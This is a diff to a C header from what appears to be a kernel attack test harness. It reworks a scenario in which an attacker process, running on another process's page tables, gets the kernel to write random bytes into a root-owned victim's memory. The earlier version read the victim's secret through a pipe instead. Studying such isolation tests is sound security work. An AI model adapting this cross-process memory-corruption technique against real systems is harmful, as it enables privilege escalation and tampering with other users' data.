@@ -1,17 +1,21 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * other_tables.h - a program that goes on with the page tables of another program: it sleeps in a
- * write to a full pipe, and behind the switch the kernel takes what it writes from the other one's
- * memory, where a secret stands at that address. (Its own registers it does not find there: they
- * stand in memory of its own.) A second program of the attacker's reads the pipe.
+ * other_tables.h - a program that goes on with the page tables of another program: in the midst of
+ * a long read it gives way to one of its own that wakes up, and behind the switch the kernel writes
+ * what it reads into the other one's memory, at that address. (Its own registers, and what a
+ * sleeping call keeps beside them, it does not find there: they stand in memory of its own.)
  */
 #pragma once
 #include "attack.h"
 
-#define PIPE_SIZE 65536
+#define MEMORY_SIZE (4 << 20) /* reading that many random bytes takes longer than the nap */
+#define NAP_MILLISECONDS 10
+#define MEMORY_BYTE 0x5a
+#define PAGE 4096
+#define PAGES_CHANGED 4 /* among random bytes is the one that stood there, too */
 
-static char memory[4096] __attribute__((aligned(4096)));
-static char filler[PIPE_SIZE];
+static char memory[MEMORY_SIZE] __attribute__((aligned(4096)));
+static long random_file;
 static int pipe_ends[2];
 
 static bool control(void)
@@ -19,43 +23,65 @@ static bool control(void)
 	return is_ordinary();
 }
 
-static _Noreturn void read_secret(void)
+static void fill_memory(void)
 {
-	(void)own_cpu(0);
-	sleep_milliseconds(200);
-	for (long left = PIPE_SIZE; left > 0;)
-		left -= call3(__NR_read, pipe_ends[0], (long)filler, left);
-	if (call3(__NR_read, pipe_ends[0], (long)filler, sizeof(memory)) > 0 &&
-	    bytes_equal(filler, SECRET, sizeof(SECRET) - 1))
-		say_result("WON");
-	for (;;)
-		call4(__NR_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
-		      LINUX_REBOOT_CMD_POWER_OFF, 0);
+	for (int i = 0; i < MEMORY_SIZE; i++)
+		memory[i] = MEMORY_BYTE;
+}
+
+/* Says that it is going to sleep, for the next while. */
+static _Noreturn void nap(void)
+{
+	for (;;) {
+		call3(__NR_write, pipe_ends[1], (long)memory, 1);
+		sleep_milliseconds(NAP_MILLISECONDS);
+	}
 }
 
 /* Before this program's tables are exchanged. */
-static void start_reader(void)
+static void start_rival(void)
 {
-	call1(__NR_pipe, (long)pipe_ends);
-	call3(__NR_write, pipe_ends[1], (long)filler, PIPE_SIZE);
-	if (fork_program() == 0)
-		read_secret();
 	(void)own_cpu(1);
+	random_file = call3(__NR_open, (long)"/dev/urandom", O_RDONLY, 0);
+	call1(__NR_pipe, (long)pipe_ends);
+	if (fork_program() == 0)
+		nap();
+	fill_memory(); /* behind fork: no page is shared, none has to be copied later */
 }
 
-static _Noreturn void run_on_other_tables(void)
+/* Puts VALUE at PLACE when the rival has just gone to sleep: the next switch is in the read. */
+static _Noreturn void run_on_other_tables(uint64_t place, uint64_t value)
 {
-	call3(__NR_write, pipe_ends[1], (long)memory, sizeof(memory));
+	char said[64];
+
+	do
+		sleep_milliseconds(1);
+	while (call3(__NR_read, pipe_ends[0], (long)said, sizeof(said)) > 1);
+	poke(place, value);
+	call3(__NR_read, random_file, (long)memory, MEMORY_SIZE);
 	for (;;)
 		__asm__ volatile("pause");
 }
 
+static int pages_changed(void)
+{
+	int changed = 0;
+
+	for (int i = 0; i < MEMORY_SIZE; i += PAGE)
+		changed += *(volatile char *)&memory[i] != MEMORY_BYTE;
+	return changed;
+}
+
+/* Root's program, which nobody else writes to. */
 static void victim(void)
 {
-	char *end = memory;
-
-	/* Not where the attacker sleeps: between two tasks of one space no tables are loaded. */
+	/* Not where the attacker runs: between two tasks of one space no tables are loaded. */
 	(void)own_cpu(0);
-	append_text(&end, SECRET);
-	victim_waits();
+	fill_memory();
+	while (pages_changed() < PAGES_CHANGED)
+		sleep_milliseconds(1);
+	say_result("WON");
+	for (;;)
+		call4(__NR_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
+		      LINUX_REBOOT_CMD_POWER_OFF, 0);
 }
